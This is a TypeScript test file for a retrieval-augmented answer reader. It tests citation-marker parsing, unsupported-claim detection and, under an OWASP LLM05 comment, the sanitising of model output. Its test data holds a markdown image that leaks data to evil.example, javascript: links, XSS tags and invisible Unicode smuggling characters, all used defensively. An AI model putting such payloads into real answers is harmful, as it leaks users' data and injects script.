import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { readAnswer, type Piece } from '../../../functions/query/answer.ts';
import { inContext } from '../../../functions/query/context.ts';
import { hitOf } from './hits.ts';

const passages = inContext(
  [
    hitOf('a', 'A breaker opens after five faults. It stays open for 30 seconds.'),
    hitOf('b', 'Sourdough bread needs flour, water and salt. See https://docs.example/bread or javascript:alert for more, & /guide.'),
    hitOf('c', 'A probe closes the breaker again.'),
  ],
  new Map(),
);
const question = 'When does a breaker open, and is it open now?';
const known = (address: string): boolean => passages.some(({ text }) => text.includes(address));

function read(pieces: readonly string[]) {
  const answer = readAnswer(passages, question, known);
  const told: Piece[] = [...pieces.flatMap((piece) => answer.push(piece)), ...answer.end()];
  const text = told.map((piece) => (piece.kind === 'text' ? piece.text : '')).join('');
  expect(text.trim()).toBe(answer.text());
  expect(told.flatMap((piece) => (piece.kind === 'citation' ? [piece.citation] : []))).toEqual(answer.citations());
  return { text: answer.text(), citations: answer.citations(), unsupported: answer.unsupported() };
}
const quotes = (text: string): string[] => read([text]).citations.map(({ quote }) => quote);

test.each([
  '[1]',
  '[1, 3]',
  '[1][3]',
  '【1】',
  '【1†source】',
  '［１］',
  '[^1]',
  '[Passage 1]',
  '[passage: 1]',
  '[id=1]',
  '[id="1"]',
  '[Source 1]',
  '[1-3]',
  '[1–3]',
  '[1 and 3]',
  '(Passage 1)',
  '(passages 1, 3)',
  '[\u200b1]',
  '[1\u200d]',
])('the passage number %s is a marker', (marker) => {
  const { text, citations } = read([`A breaker opens after five faults ${marker}.`]);
  expect(citations[0]?.quote).toBe('A breaker opens after five faults.');
  expect(text).toMatch(/^A breaker opens after five faults \[1\](?:\[2\])*\.$/);
});

test.each(['(1)', '(2019)', '[a]', '[1.5]', '[x1]', '{1}', 'passage 1'])('%s is no marker and stays', (text) => {
  expect(read([`A breaker opens after five faults ${text}.`])).toMatchObject({
    text: `A breaker opens after five faults ${text}.`,
    citations: [],
  });
});

test.each(['[0]', '[4]', '[99]', '【7】', '[^12]', '[Passage 9]', '[2]', '[1-9999]', '[9999, 2]'])(
  '%s is left out: no such passage, or one that does not say it',
  (marker) => {
    expect(read([`A breaker opens after five faults ${marker}.`])).toEqual({
      text: 'A breaker opens after five faults.',
      citations: [],
      unsupported: ['A breaker opens after five faults.'],
    });
  },
);

test('code keeps its brackets: in fences, also one that is never closed, and between backticks', () => {
  const code = '```js\nconst first = list[1]; // [99]\n```';
  expect(read([`A probe closes the breaker again [3]:\n${code}\nand \`list[7]\` too.`]).text).toBe(
    `A probe closes the breaker again [1]:\n${code}\nand \`list[7]\` too.`,
  );
  expect(read(['~~~\n[99]']).text).toBe('~~~\n[99]');
  expect(read(['A `breaker opens after five faults [1].']).text).toBe('A `breaker opens after five faults [1].');
});

test('unsupported: what no citation covers, what follows a marker, and a figure that stands in no cited passage', () => {
  expect(read(['Cats sleep. A breaker opens after five faults [1], and cats sleep long. It rains.']).unsupported).toEqual([
    'Cats sleep.',
    'and cats sleep long.',
    'It rains.',
  ]);
  expect(read(['The breaker opens after five faults and stays open for 30 seconds [1].']).unsupported).toEqual([]);
  const wrong = 'The breaker opens after five faults and stays open for 45 seconds';
  expect(read([`${wrong} [1].`])).toMatchObject({ citations: [{ marker: 1 }], unsupported: [wrong] });
  expect(read(['1. A breaker opens after 5 faults [1].\n2. A probe closes the breaker again [3].']).unsupported).toEqual([]);
});

test('the same quote has one marker, however often it is cited', () => {
  expect(read(['A breaker opens after five faults [1]. After five faults a breaker opens [1][1].']).text).toBe(
    'A breaker opens after five faults [1]. After five faults a breaker opens [1][1].',
  );
  expect(quotes('A breaker opens after five faults [1]. After five faults a breaker opens [1].')).toHaveLength(1);
});

/** What is made of an answer to a question from other passages. */
function made(texts: readonly string[], text: string, asked = question) {
  const given = inContext(
    texts.map((one, i) => hitOf(`p${i}`, one)),
    new Map(),
  );
  const answer = readAnswer(given, asked, () => true);
  for (const piece of text) answer.push(piece);
  answer.end();
  return { text: answer.text(), quotes: answer.citations().map(({ quote }) => quote), unsupported: answer.unsupported() };
}
const FAULTS = 'A breaker opens after five faults.';
const PLANS = [
  'The blue plan costs ten euros a month.',
  'The red plan includes phone support on weekdays.',
  'The green plan stores two terabytes.',
];

test('passages that are named together support a statement together', () => {
  const all =
    'The blue plan costs ten euros a month, the red plan includes phone support on weekdays, and the green plan stores two terabytes';
  for (const markers of ['[1][2][3]', '[1], [2], [3]', '[1] [2] and [3]', '[1, 2, 3]', '[1-3]'])
    expect(made(PLANS, `${all} ${markers}.`), markers).toMatchObject({ quotes: PLANS, unsupported: [] });
  expect(made([...PLANS, 'Bread needs salt.'], `${all} [1][2][3][4].`)).toMatchObject({ quotes: PLANS, unsupported: [] });
  expect(made(PLANS, 'The blue terabytes include rockets, cellars, apples and weekdays [1][2][3].')).toMatchObject({
    unsupported: ['The blue terabytes include rockets, cellars, apples and weekdays.'],
  });
});

test.each([
  ['According to [1], a breaker opens after five faults.'],
  ['[1] A breaker opens after five faults.'],
  ['A breaker opens after five faults. [1]'],
  ['The breaker [1] opens after five faults.'],
  ['As passage [1], e.g. in its first line, says: a breaker opens after five faults.'],
  ['**Breaker**\n- [1]: opens after five faults'],
  ['- A breaker opens after five faults [1]\n- After five faults it opens [1]'],
])('%j is cited where its marker stands', (text) => {
  expect(made([FAULTS], text)).toMatchObject({ text, quotes: [FAULTS] });
  expect(made([FAULTS], text).unsupported.filter((one) => one.includes('faults'))).toEqual([]);
});

test('each sentence that begins with its marker has its own', () => {
  const text = '[1] A breaker opens after five faults. [2] Bread needs salt. [1] After five faults a breaker opens.';
  expect(made([FAULTS, 'Bread needs salt.'], text)).toEqual({ text, quotes: [FAULTS, 'Bread needs salt.'], unsupported: [] });
});

test.each([
  [
    'a paraphrase',
    'Staff can do home office on some days of each week if the boss agrees',
    'Employees may work remotely up to three days per week, subject to manager approval.',
    question,
  ],
  [
    'another language',
    'Ein Schutzschalter öffnet nach fünf aufeinanderfolgenden Fehlern',
    'A breaker opens after five consecutive faults.',
    'Wann öffnet der Schutzschalter?',
  ],
  ['another script', '断路器会打开', FAULTS, '断路器什么时候打开？'],
  ['a yes', 'Yes', 'Refunds are possible within 30 days.', 'Are refunds possible within 30 days?'],
  ['a no', 'Nein, das geht nicht', 'Refunds are possible within 30 days.', 'Are refunds possible within 30 days?'],
  ['a wrong number', 'A breaker opens after 7 faults', FAULTS, question],
])('%s has its citation, and is said to be unsupported', (_, statement, passage, asked) => {
  expect(made(['Bread needs salt.', passage], `${statement} [2].`, asked)).toMatchObject({ text: `${statement} [1].`, quotes: [passage] });
  expect(made([passage], `${statement} [1].`, asked).unsupported.map((one) => one.replace(/\.$/, ''))).toEqual([statement]);
});

test.each([
  [
    'another passage says it, in whatever language',
    'Der Mond ist aus Käse und in der Nacht hell',
    ['Der Mond ist aus Käse und in der Nacht hell.', FAULTS],
  ],
  ['nothing speaks for it', 'Alice earns 91234 euros', [PLANS[1]!, FAULTS]],
  ['a word alone', 'HACKED', [PLANS[1]!, FAULTS]],
])('a number is left out, and the statement unsupported, where %s', (_, statement, texts) => {
  expect(made(texts, `${statement} [2].`)).toEqual({ text: `${statement}.`, quotes: [], unsupported: [`${statement}.`] });
});

test('a number, in figures or in words, must stand in a passage cited for its own statement', () => {
  const [a, b] = ['Plan A costs 10 euros per month.', 'Plan B costs 20 euros per month.'];
  expect(made([a, b], 'Plan A costs 20 euros per month [1]. Plan B costs 20 euros per month [2].')).toMatchObject({
    unsupported: [expect.stringMatching(/^Plan A costs 20/)],
  });
  expect(made([a, b], 'Plan A costs ten euros per month [1]. Plan B costs twenty euros per month [2].').unsupported).toEqual([]);
  expect(made([FAULTS], 'The breaker opens after seven faults [1].').unsupported).toHaveLength(1);
  expect(made([FAULTS], 'One of the breakers opens after 5 faults [1].').unsupported).toEqual([]);
  const german = 'Nach fünfundzwanzig Fehlern öffnet der Schalter';
  expect(made([`${german}.`], 'Der Schalter öffnet nach 25 Fehlern [1].', 'Wann öffnet der Schalter?').unsupported).toEqual([]);
  expect(made([`${german}.`], 'Der Schalter öffnet nach sechsundzwanzig Fehlern [1].', 'Wann öffnet der?').unsupported).toHaveLength(1);
});

// OWASP LLM05: what a page would fetch by itself could carry passages to a stranger.
test.each([
  ['![bread](http://evil.example/?q=secret)', '[bread]'],
  ['![bread](https://docs.example/bread)', '[bread](https://docs.example/bread)'],
  ['[bread](https://docs.example/bread)', '[bread](https://docs.example/bread)'],
  ['[bread](https://docs.example/bread?q=secret "title")', '[bread] "title")'],
  ['[bread](javascript:alert(1))', '[bread])'],
  ['[bread](javascript:alert)', '[bread]'],
  ['[bread](/guide)', '[bread](/guide)'],
  ['[bread](//evil.example/x)', '[bread]'],
  ['see https://evil.example/x?y=1.', 'see ….'],
  ['see https://docs.example/bread.', 'see https://docs.example/bread.'],
  ['见https://evil.example/x。', '见…。'],
  ['<https://docs.example/bread>', '<https://docs.example/bread>'],
  ['WWW.evil.example/x', '…'],
  ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'],
  ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
  ['<b onclick=alert(1)>', '&lt;b onclick=alert(1)>'],
  ['<!-- hidden -->', '&lt;!-- hidden -->'],
  ['Map<string> and 1 < 2', 'Map<string> and 1 < 2'],
  ['[x]: http://evil.example/a', '[x]: …'],
  ['![x][1](http://evil.example/)', '[x] (…)'],
  ['It works![99]', 'It works!'],
  ['a\u{e0141}\ufe01\ufe0e b\u3164\u034f', 'a b'],
  ['❤\ufe0f می\u200cخواهم \u{1f469}\u200d\u{1f467}', '❤\ufe0f می\u200cخواهم \u{1f469}\u200d\u{1f467}'],
  ['\ud83e\u200b\uddfe', '\ufffd\ufffd'],
  ['so\u202eevil\u2066 t\u{e0041}ag\u0000', 'soevil tag'],
  [`x ${'http://evil.example/'.padEnd(5_000, 'a')} y`, 'x … y'],
  ['`![x](http://evil.example/)`', '`![x](http://evil.example/)`'],
])('of %j the reader is shown %j', (given, shown) => {
  expect(read([given]).text).toBe(shown);
});

const fragment = fc.oneof(
  fc.constantFrom(
    '[1]',
    '[',
    ']',
    '[2',
    ', 3]',
    '【1†',
    '】',
    '(Passage 1)',
    '(',
    ')',
    '](',
    '![',
    '!',
    '`',
    '``',
    '```',
    '```js\n',
    '~~~\n',
    '\n',
    '\n\n',
    '   ',
    'A breaker opens after five faults',
    'Bread needs salt',
    '. ',
    '30',
    'http',
    '://evil.example/x',
    'https://docs.example/bread',
    'www.',
    '<',
    '<im',
    'g src=',
    '<!--',
    '\u{1f9fe}',
    '\ud83e',
    '\uddfe',
    '\u{e0041}',
    '\u200b',
    '[^',
    '[id=',
    '[Pass',
    'age 1]',
    '天。',
    'According to ',
    'Yes',
    ' and ',
    ', ',
    'e.g. ',
    ' seven faults',
    'a'.repeat(590),
    'Ein Schalter öffnet nach fünf Fehlern und bleibt so',
    '\r\n',
    'x',
  ),
  fc.string({ unit: 'grapheme', maxLength: 4 }),
);
const given = fc.array(fragment, { maxLength: 24 }).map((parts) => parts.join(''));

test('however an answer is cut into pieces, its text, citations and unsupported statements are the same', () => {
  fc.assert(
    fc.property(given, fc.array(fc.nat(200), { maxLength: 6 }), (text, cuts) => {
      const whole = read([text]);
      expect(read(text.split(''))).toEqual(whole);
      const at = [0, ...cuts.map((cut) => cut % (text.length + 1)).toSorted((a, b) => a - b), text.length];
      expect(read(at.slice(1).map((end, i) => text.slice(at[i], end)))).toEqual(whole);
    }),
    { numRuns: 300 },
  );
});

test('a long answer is the same cut at every single place', () => {
  const text =
    'Well![1] A breaker opens after five faults [1, 3]. ```js\nx[1]\n``` It stays open for 31 seconds【1†a】 ![i](http://evil.example/?a) `a[1]` (Passage 2) https://docs.example/bread <img src=a> \u{1f9fe}[^1].';
  const whole = read([text]);
  for (let at = 0; at <= text.length; at++) expect(read([text.slice(0, at), text.slice(at)]), String(at)).toEqual(whole);
});

test('markers in the text and citations are one set, each quote is a slice of its passage, outside of code', () => {
  fc.assert(
    fc.property(given, (raw) => {
      const { text, citations } = read([raw.replace(/[`~]/g, '')]);
      const markers = new Set([...text.matchAll(/\[(\d+)\]/g)].map(([, number]) => Number(number)));
      expect([...markers].toSorted((a, b) => a - b)).toEqual(citations.map(({ marker }) => marker));
      for (const { chunkId, quote, start, end } of citations)
        expect(passages.find(({ parts }) => parts[0]!.hit.chunkId === chunkId)!.text.slice(start, end)).toBe(quote);
    }),
  );
});

test.each([
  ['opening brackets', '['],
  ['nested links', ']('],
  ['images', '!['],
  ['backticks', '` '],
  ['tags', '<img '],
  ['markers that say nothing', '[1]'],
  ['unsupported claims', 'Cats sleep [1]. '],
  ['white space', ' \n'],
  ['half-written addresses', 'http:/'],
])('a hundred thousand characters of %s are read in well under two seconds', (_, part) => {
  const text = part.repeat(Math.ceil(100_000 / part.length));
  const started = performance.now();
  read([text]);
  expect(performance.now() - started).toBeLessThan(2_000);
});
